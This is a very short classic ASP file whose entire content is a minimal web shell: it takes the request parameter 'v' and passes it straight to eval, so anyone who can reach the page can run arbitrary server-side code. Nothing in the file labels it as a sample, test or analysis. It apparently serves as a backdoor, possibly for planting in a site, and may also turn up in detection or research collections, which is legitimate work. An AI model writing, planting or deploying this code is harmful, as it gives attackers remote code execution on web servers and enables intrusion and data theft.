<%
dim a, b
a = request("v")
b = a
eval b
%>
